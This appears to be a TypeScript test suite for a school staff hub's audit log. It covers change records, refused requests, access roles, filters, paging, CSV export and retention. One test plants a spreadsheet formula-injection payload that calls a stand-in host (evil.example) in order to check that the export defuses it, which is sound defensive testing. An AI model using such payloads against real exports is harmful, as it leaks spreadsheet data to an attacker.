// The audit log as the safeguarding lead and ICT read it: one row per change, naming who made it
// and the request that did, none for a refused request, filters, pages, the CSV export, and no
// secrets anywhere in it.
import { parse } from 'csv-parse/sync';
import { createHash } from 'node:crypto';
import type { Response } from 'supertest';
import { AuditRepository } from '../apps/hub/src/audit/audit.repository';
import { AuditService, type AuditEntryView } from '../apps/hub/src/audit/audit.service';
import { TransactionRunner } from '../apps/hub/src/database/transaction-runner';
import { acceptAup, ADMIN_PASSWORD, createStaff, startHub, TestHub } from './support/hub';

const CSV_HEADER =
  'id,at,actorType,actorId,actor,actorName,action,targetType,targetId,targetLabel,detail,correlationId';

/** RFC 4180 rows, read by csv-parse: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  return parse(text) as string[][];
}

describe('the audit log', () => {
  let hub: TestHub;
  let admin: string;
  let adminId: string;
  let safeguarding: { id: string; token: string };
  let teacher: { id: string; token: string };
  /** Every password and token this suite uses, to look for in the log afterwards. */
  const secrets: string[] = [ADMIN_PASSWORD];

  const as = (token: string) => `Bearer ${token}`;
  const requestId = (response: Response) => response.headers['x-request-id'] as string;

  async function audit(query: Record<string, string | number> = {}, token = admin) {
    const response = await hub.http.get('/api/audit').query(query).set('Authorization', as(token));
    expect(response.status).toBe(200);
    return response.body as {
      items: AuditEntryView[];
      total: number;
      page: number;
      pageSize: number;
    };
  }

  /** The rows written by one request, found by its correlation id. */
  async function rowsOf(response: Response): Promise<AuditEntryView[]> {
    const id = requestId(response);
    expect(id).toMatch(/^[A-Za-z0-9._-]{8,64}$/);
    const { items } = await audit({ pageSize: 500 });
    return items.filter((row) => row.correlationId === id);
  }

  beforeAll(async () => {
    hub = await startHub();
    admin = await hub.login();
    secrets.push(admin);
    adminId = (await hub.http.get('/api/auth/me').set('Authorization', as(admin))).body.id;
    safeguarding = await createStaff(hub, admin, 'sally', ['safeguarding']);
    teacher = await createStaff(hub, admin, 'tariq', ['teacher']);
    secrets.push('Staff-Pass1!', safeguarding.token, teacher.token);
  });
  afterAll(() => hub.close());

  describe('one row per change, naming who made it and the request that did', () => {
    it('records creating an account', async () => {
      const created = await hub.http
        .post('/api/staff')
        .set('Authorization', as(admin))
        .send({
          username: 'fran',
          displayName: 'Fran',
          password: 'Fran-Pass1!',
          roles: ['office'],
        });
      secrets.push('Fran-Pass1!');

      expect(await rowsOf(created)).toEqual([
        {
          id: expect.any(Number),
          at: expect.any(String),
          // The test hub runs in Europe/London, which is UTC in winter and UTC+1 in summer.
          atLocal: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+0[01]:00$/),
          actorType: 'staff',
          actorId: adminId,
          actor: 'admin',
          actorName: 'Administrator',
          action: 'staff.created',
          actionText: 'Account created',
          targetType: 'staff',
          targetId: created.body.id,
          targetLabel: 'Fran (fran)',
          detail: { username: 'fran', roles: ['office'] },
          detailText: 'username: fran; roles: office',
          correlationId: requestId(created),
        },
      ]);
    });

    it('uses a well-formed X-Request-Id sent by the caller as the correlation id', async () => {
      const created = await hub.http
        .post('/api/staff')
        .set('Authorization', as(admin))
        .set('X-Request-Id', 'console-req-0001')
        .send({ username: 'gil', displayName: 'Gil', password: 'Gil-Pass1!', roles: ['office'] });
      secrets.push('Gil-Pass1!');

      expect(requestId(created)).toBe('console-req-0001');
      expect((await rowsOf(created)).map((row) => row.action)).toEqual(['staff.created']);
    });

    it('records changing, resetting the password of and disabling an account', async () => {
      const person = await createStaff(hub, admin, 'hal', ['teacher']);
      secrets.push(person.token);
      const patch = (body: object) =>
        hub.http.patch(`/api/staff/${person.id}`).set('Authorization', as(admin)).send(body);

      const renamed = await patch({ displayName: 'Hal H.' });
      const reset = await patch({ password: 'Hal-Reset9#' });
      secrets.push('Hal-Reset9#');
      const disabled = await patch({ disabled: true });

      expect(await rowsOf(renamed)).toEqual([
        expect.objectContaining({
          actor: 'admin',
          action: 'staff.updated',
          targetId: person.id,
          detail: {
            changed: ['displayName'],
            roles: ['teacher'],
            disabled: false,
            previousDisplayName: 'hal',
          },
        }),
      ]);
      expect(await rowsOf(reset)).toEqual([
        expect.objectContaining({
          actor: 'admin',
          action: 'staff.updated',
          targetId: person.id,
          detail: { changed: ['password'], roles: ['teacher'], disabled: false },
        }),
      ]);
      expect(await rowsOf(disabled)).toEqual([
        expect.objectContaining({ actor: 'admin', action: 'staff.disabled', targetId: person.id }),
      ]);
    });

    it('records signing in and out and changing one’s own password, as that person', async () => {
      const signIn = await hub.http
        .post('/api/auth/login')
        .send({ username: 'tariq', password: 'Staff-Pass1!' });
      const token = signIn.body.accessToken as string;
      secrets.push(token);
      const changed = await hub.http
        .patch('/api/staff/me/password')
        .set('Authorization', as(token))
        .send({ currentPassword: 'Staff-Pass1!', newPassword: 'Tariq-New7%' });
      secrets.push('Tariq-New7%');
      const signOut = await hub.http.post('/api/auth/logout').set('Authorization', as(token));

      const expected = (action: string) =>
        expect.objectContaining({
          actorId: teacher.id,
          actor: 'tariq',
          action,
          targetId: teacher.id,
        });
      expect(await rowsOf(signIn)).toEqual([expected('staff.signed_in')]);
      expect(await rowsOf(changed)).toEqual([expected('staff.password_changed')]);
      expect(await rowsOf(signOut)).toEqual([expected('staff.signed_out')]);
    });

    it('records publishing and accepting the AUP', async () => {
      const text = 'The audit test AUP: use the devices for school work.';
      const version = createHash('sha256').update(text).digest('hex');
      const published = await hub.http
        .put('/api/aup')
        .set('Authorization', as(admin))
        .send({ text });
      const accepted = await hub.http
        .post('/api/staff/me/aup-acceptance')
        .set('Authorization', as(safeguarding.token))
        .send({ version });
      // A new version gates everyone, its publisher too, until they accept it (issue 9).
      await acceptAup(hub, admin);

      expect(await rowsOf(published)).toEqual([
        expect.objectContaining({
          actor: 'admin',
          action: 'aup.published',
          targetType: 'aup',
          targetId: version,
        }),
      ]);
      expect(await rowsOf(accepted)).toEqual([
        expect.objectContaining({
          actorId: safeguarding.id,
          actor: 'sally',
          action: 'aup.accepted',
          targetType: 'aup',
          targetId: version,
        }),
      ]);
    });
  });

  it('writes nothing for a refused request', async () => {
    const before = await audit();

    const forbidden = await hub.http
      .post('/api/staff')
      .set('Authorization', as(safeguarding.token))
      .send({ username: 'ivy', displayName: 'Ivy', password: 'Ivy-Pass1!', roles: ['ict'] });
    const unsigned = await hub.http
      .put('/api/aup')
      .send({ text: 'Nobody signed in wrote this policy text.' });
    const invalid = await hub.http
      .post('/api/staff')
      .set('Authorization', as(admin))
      .send({ username: 'ivy', displayName: 'Ivy', password: 'weak', roles: ['ict'] });
    const duplicate = await hub.http
      .post('/api/staff')
      .set('Authorization', as(admin))
      .send({ username: 'fran', displayName: 'Fran 2', password: 'Fran-Pass1!', roles: ['ict'] });
    const wrongPassword = await hub.http
      .post('/api/auth/login')
      .send({ username: 'admin', password: 'Nope-Nope1!' });

    expect([
      forbidden.status,
      unsigned.status,
      invalid.status,
      duplicate.status,
      wrongPassword.status,
    ]).toEqual([403, 401, 400, 409, 401]);
    const after = await audit();
    expect(after.total).toBe(before.total);
    expect(after.items).toEqual(before.items);
  });

  describe('reading it', () => {
    it('is for safeguarding and ICT only', async () => {
      expect(
        (await hub.http.get('/api/audit').set('Authorization', as(safeguarding.token))).status,
      ).toBe(200);
      const office = await createStaff(hub, admin, 'otto', ['office', 'teacher', 'trip_leader']);
      secrets.push(office.token);
      expect((await hub.http.get('/api/audit').set('Authorization', as(office.token))).status).toBe(
        403,
      );
      expect(
        (await hub.http.get('/api/audit/export.csv').set('Authorization', as(office.token))).status,
      ).toBe(403);
      expect((await hub.http.get('/api/audit')).status).toBe(401);
      expect((await hub.http.get('/api/audit/export.csv')).status).toBe(401);
    });

    it('filters by action, or by an action prefix ending in a dot', async () => {
      const created = await audit({ action: 'staff.created' });
      expect(created.total).toBeGreaterThanOrEqual(5);
      expect(new Set(created.items.map((row) => row.action))).toEqual(new Set(['staff.created']));

      const aup = await audit({ action: 'aup.' });
      expect(new Set(aup.items.map((row) => row.action))).toEqual(
        new Set(['aup.published', 'aup.accepted']),
      );
    });

    it('filters by actor, by username or by id', async () => {
      const byName = await audit({ actor: 'tariq' });
      const byId = await audit({ actor: teacher.id });

      expect(byName.total).toBeGreaterThanOrEqual(3);
      expect(byName.items.every((row) => row.actorId === teacher.id)).toBe(true);
      expect(byId.items).toEqual(byName.items);
      // Typed as a person writes it, the way sign-in takes it: usernames and ids are lower case.
      expect((await audit({ actor: 'Tariq' })).items).toEqual(byName.items);
      expect((await audit({ actor: teacher.id.toUpperCase() })).items).toEqual(byName.items);
    });

    it('filters by time, from inclusive and to exclusive', async () => {
      hub.clock.advance(60 * 60 * 1000);
      const boundary = hub.clock.now().toISOString();
      hub.clock.advance(1);
      const later = await hub.http
        .patch(`/api/staff/${teacher.id}`)
        .set('Authorization', as(admin))
        .send({ displayName: 'Tariq T.' });
      expect(later.status).toBe(200);

      const fromBoundary = await audit({ from: boundary });
      const toBoundary = await audit({ to: boundary, pageSize: 500 });

      expect(fromBoundary.items.map((row) => row.correlationId)).toEqual([requestId(later)]);
      expect(toBoundary.items.some((row) => row.correlationId === requestId(later))).toBe(false);
      expect(toBoundary.total + fromBoundary.total).toBe((await audit()).total);
    });

    it('pages newest first', async () => {
      const all = await audit({ pageSize: 500 });
      const first = await audit({ pageSize: 3, page: 1 });
      const second = await audit({ pageSize: 3, page: 2 });

      expect(all.items.map((row) => row.id)).toEqual(
        [...all.items.map((row) => row.id)].sort((a, b) => b - a),
      );
      expect(first).toMatchObject({ total: all.total, page: 1, pageSize: 3 });
      expect([...first.items, ...second.items]).toEqual(all.items.slice(0, 6));
      expect((await audit({ pageSize: 3, page: 1000 })).items).toEqual([]);
    });

    it('refuses a bad filter or page size, naming it', async () => {
      const bad = async (query: Record<string, string>) => {
        const response = await hub.http
          .get('/api/audit')
          .query(query)
          .set('Authorization', as(admin));
        return [response.status, response.body.message as string] as const;
      };
      const [pageStatus, pageMessage] = await bad({ pageSize: '501' });
      const [fromStatus, fromMessage] = await bad({ from: 'last tuesday' });
      const [extraStatus, extraMessage] = await bad({ sort: 'asc' });

      expect([pageStatus, fromStatus, extraStatus]).toEqual([400, 400, 400]);
      expect(pageMessage).toContain('pageSize');
      expect(fromMessage).toContain('from');
      expect(extraMessage).toContain('sort');
      // Days the wrong way round hold no entry: said so, not answered as "nothing happened".
      const window = { from: '2026-12-05T00:00:00Z', to: '2026-12-02T00:00:00Z' };
      expect(await bad(window)).toEqual([
        400,
        'to must be later than from: 2026-12-02T00:00:00Z is not after 2026-12-05T00:00:00Z',
      ]);
      const csv = await hub.http
        .get('/api/audit/export.csv')
        .query(window)
        .set('Authorization', as(admin));
      expect(csv.status).toBe(400);
    });
  });

  describe('a window of time', () => {
    const refusal = async (path: string, query: Record<string, string>) => {
      const response = await hub.http.get(path).query(query).set('Authorization', as(admin));
      return [response.status, String(response.body.message).split('; ').sort()] as const;
    };

    it('names every wrong filter in one 400, a window the wrong way round among them', async () => {
      const reversed = { from: '2026-12-05T00:00:00Z', to: '2026-12-02T00:00:00Z' };
      const whenReversed =
        'to must be later than from: 2026-12-02T00:00:00Z is not after 2026-12-05T00:00:00Z';
      for (const path of ['/api/audit', '/api/audit/export.csv']) {
        expect(await refusal(path, { ...reversed, pageSize: '501' })).toEqual([
          400,
          ['pageSize must not be greater than 500', whenReversed],
        ]);
      }
    });

    it('says a start that is not a real time as one part of the 400, beside the others', async () => {
      // The console splits a 400 at "; " and puts each part beside its field: the whole of the
      // time rule's words must stay in the one part that starts with `from`.
      for (const path of ['/api/audit', '/api/audit/export.csv']) {
        expect(await refusal(path, { from: '2026-02-30T10:00:00Z', pageSize: '501' })).toEqual([
          400,
          [
            expect.stringMatching(
              /^from must be an RFC 3339 date-time with a time zone, such as \S+: 2026-02-30T10:00:00Z is not a real time$/,
            ),
            'pageSize must not be greater than 500',
          ],
        ]);
      }
    });

    it('refuses an end that is not after the start, comparing instants whatever the offsets', async () => {
      // 09:00 in Paris is 08:00 UTC: the same instant, so an empty window.
      expect(
        await refusal('/api/audit', {
          from: '2026-12-02T09:00:00+01:00',
          to: '2026-12-02T08:00:00Z',
        }),
      ).toEqual([
        400,
        ['to must be later than from: 2026-12-02T08:00:00Z is not after 2026-12-02T09:00:00+01:00'],
      ]);
      // A start that is not a time is named for what it is, not compared.
      const badStart = await hub.http
        .get('/api/audit')
        .query({ from: '2026-02-30T00:00:00Z', to: '2026-12-02T00:00:00Z' })
        .set('Authorization', as(admin));
      expect([badStart.status, badStart.body.message]).toEqual([
        400,
        expect.stringMatching(/^from must be an RFC 3339 date-time/),
      ]);
      expect(badStart.body.message).not.toContain('later than');
      const ok = await hub.http
        .get('/api/audit')
        .query({ from: '2026-12-02T09:00:00+01:00', to: '2026-12-02T08:00:01Z' })
        .set('Authorization', as(admin));
      expect(ok.status).toBe(200);
    });
  });

  describe('the CSV export', () => {
    it('has a header row and one row per entry, newest first, with the same filters', async () => {
      const response = await hub.http
        .get('/api/audit/export.csv')
        .query({ action: 'staff.created' })
        .set('Authorization', as(safeguarding.token));

      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toContain('attachment');
      const rows = parseCsv(response.text);
      expect(rows[0].join(',')).toBe(CSV_HEADER);
      const { items } = await audit({ action: 'staff.created', pageSize: 500 });
      expect(rows.slice(1).map((row) => Number(row[0]))).toEqual(items.map((row) => row.id));
      const fran = rows.find(
        (row) => row[8] === items.find((i) => i.detail?.username === 'fran')?.targetId,
      );
      expect(fran?.slice(4, 11)).toEqual([
        'admin',
        'Administrator',
        'staff.created',
        'staff',
        fran?.[8],
        'Fran (fran)',
        'username: fran; roles: office',
      ]);
    });

    it('never starts a cell with a spreadsheet formula, even for a name that is one', async () => {
      const person = await createStaff(hub, admin, 'eve', ['teacher']);
      secrets.push(person.token);
      const renamed = await hub.http
        .patch(`/api/staff/${person.id}`)
        .set('Authorization', as(admin))
        .send({ displayName: '=HYPERLINK("http://evil.example/?"&A1,"Click")' });
      expect(renamed.status).toBe(200);

      const response = await hub.http.get('/api/audit/export.csv').set('Authorization', as(admin));
      const cells = parseCsv(response.text).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    });
  });

  describe('the CSV export of a long log (item 22)', () => {
    /** Appends `count` entries at once, as a burst of real changes would. */
    async function append(count: number, action = 'test.bulk'): Promise<void> {
      const auditService = hub.app.get(AuditService);
      await hub.app.get(TransactionRunner).run((tx) =>
        auditService.record(
          tx,
          ...Array.from({ length: count }, (_, i) => ({
            actor: { kind: 'system' as const },
            action,
            target: { type: 'test', id: String(i), label: null },
          })),
        ),
      );
    }

    it('reads each entry once, leaving out entries appended while it runs', async () => {
      await append(2500);
      const entries = hub.app.get(AuditService).findAll({});
      const seen: number[] = [];
      // Past the first page of 1,000, into the second: then 1,200 entries arrive.
      for (let i = 0; i < 1500; i++) {
        const next = await entries.next();
        seen.push((next.value as AuditEntryView).id);
      }
      const newestAtStart = seen[0];
      await append(1200, 'test.during');
      for await (const entry of entries) {
        seen.push(entry.id);
      }

      expect(new Set(seen).size).toBe(seen.length);
      expect(seen.every((id, i) => i === 0 || id < seen[i - 1])).toBe(true);
      expect(Math.max(...seen)).toBe(newestAtStart);
      const before = (await audit({ to: '2999-01-01T00:00:00Z' })).total - 1200;
      expect(seen.length).toBe(before);
    });

    it('exports every entry of a log many pages long once, newest first', async () => {
      const { total } = await audit({ pageSize: 1 });
      expect(total).toBeGreaterThan(3700);
      const response = await hub.http.get('/api/audit/export.csv').set('Authorization', as(admin));
      expect(response.status).toBe(200);
      const ids = parseCsv(response.text)
        .slice(1)
        .map((row) => Number(row[0]));
      expect(ids.length).toBe(total);
      expect(ids.every((id, i) => i === 0 || id < ids[i - 1])).toBe(true);
      const filtered = parseCsv(
        (
          await hub.http
            .get('/api/audit/export.csv')
            .query({ action: 'test.during' })
            .set('Authorization', as(admin))
        ).text,
      ).slice(1);
      expect(filtered).toHaveLength(1200);
    });
  });

  it('holds no password or token, in the API or the CSV', async () => {
    const json = JSON.stringify((await audit({ pageSize: 500 })).items);
    const csv = (await hub.http.get('/api/audit/export.csv').set('Authorization', as(admin))).text;
    const tokenHashes = secrets.map((secret) => createHash('sha256').update(secret).digest('hex'));

    expect(secrets.length).toBeGreaterThan(10);
    for (const secret of [...secrets, ...tokenHashes]) {
      expect(json).not.toContain(secret);
      expect(csv).not.toContain(secret);
    }
    expect(csv).not.toMatch(/argon2/);
  });
});

describe('the audit log past its retention (HUB_AUDIT_RETENTION_DAYS)', () => {
  let hub: TestHub;
  const DAY = 24 * 3600 * 1000;

  beforeAll(async () => {
    hub = await startHub({ env: { HUB_AUDIT_RETENTION_DAYS: '30' } });
  });
  afterAll(() => hub.close());

  it('deletes entries older than the setting and says so in the log itself, once', async () => {
    const admin = await hub.login();
    await createStaff(hub, admin, 'olga', ['teacher']);
    hub.clock.advance(31 * DAY);
    const later = await hub.login();
    const service = hub.app.get(AuditService);

    const removed = await service.applyRetention();

    expect(removed).toBeGreaterThan(0);
    const { body } = await hub.http
      .get('/api/audit')
      .query({ pageSize: 500 })
      .set('Authorization', `Bearer ${later}`);
    const entries = body.items as AuditEntryView[];
    // The safeguarding lead reading the log sees why it starts where it does.
    const trace = entries.filter((entry) => entry.action === 'audit.entries_removed');
    expect(trace).toEqual([
      expect.objectContaining({
        actorType: 'system',
        actionText: 'Old log entries removed (retention)',
        detail: { removed, before: expect.any(String), retentionDays: 30 },
        detailText: expect.stringMatching(
          new RegExp(`^${removed} entries from before .* removed; entries are kept 30 days`),
        ),
      }),
    ]);
    const cutoff = Date.parse(trace[0].detail?.before as string);
    expect(Date.parse(trace[0].at) - cutoff).toBeGreaterThanOrEqual(30 * DAY);
    expect(Date.parse(trace[0].at) - cutoff).toBeLessThan(30 * DAY + 5_000);
    expect(entries.filter((entry) => Date.parse(entry.at) < cutoff)).toEqual([]);
    expect(entries.filter((entry) => entry.action === 'staff.created')).toEqual([]);
    // Nothing more to delete: no second entry.
    expect(await service.applyRetention()).toBe(0);
    const again = await hub.http
      .get('/api/audit')
      .query({ action: 'audit.entries_removed' })
      .set('Authorization', `Bearer ${later}`);
    expect(again.body.total).toBe(1);
  });

  it('deletes a long stretch a slice at a time, oldest first, with one entry for all of it', async () => {
    const admin = await hub.login();
    for (const name of ['pia', 'quinn', 'rory']) {
      await createStaff(hub, admin, name, ['teacher']);
    }
    hub.clock.advance(31 * DAY);
    const later = await hub.login();
    const read = async () =>
      (
        await hub.http
          .get('/api/audit')
          .query({ pageSize: 500 })
          .set('Authorization', `Bearer ${later}`)
      ).body.items as AuditEntryView[];
    const before = await read();
    const cutoff = new Date(hub.clock.nowMs() - 30 * DAY);
    const old = before.filter((entry) => Date.parse(entry.at) < cutoff.getTime());
    expect(old.length).toBeGreaterThan(8);

    // A slice is the oldest entries, no more than asked for.
    expect(await hub.app.get(AuditRepository).deleteOlderThan(cutoff, undefined, 2)).toBe(2);
    const oldest = old.map((entry) => entry.id).sort((a, b) => a - b);
    const afterSlice = (await read()).map((entry) => entry.id);
    expect(afterSlice).not.toContain(oldest[0]);
    expect(afterSlice).not.toContain(oldest[1]);
    expect(afterSlice).toContain(oldest[2]);

    const removed = await hub.app.get(AuditService).applyRetention(3);

    expect(removed).toBe(old.length - 2);
    const after = await read();
    expect(after.filter((entry) => Date.parse(entry.at) < cutoff.getTime())).toEqual([]);
    const traces = after.filter(
      (entry) => entry.action === 'audit.entries_removed' && entry.id > Math.max(...oldest),
    );
    expect(traces.map((entry) => entry.detail?.removed)).toEqual([removed]);
  });
});
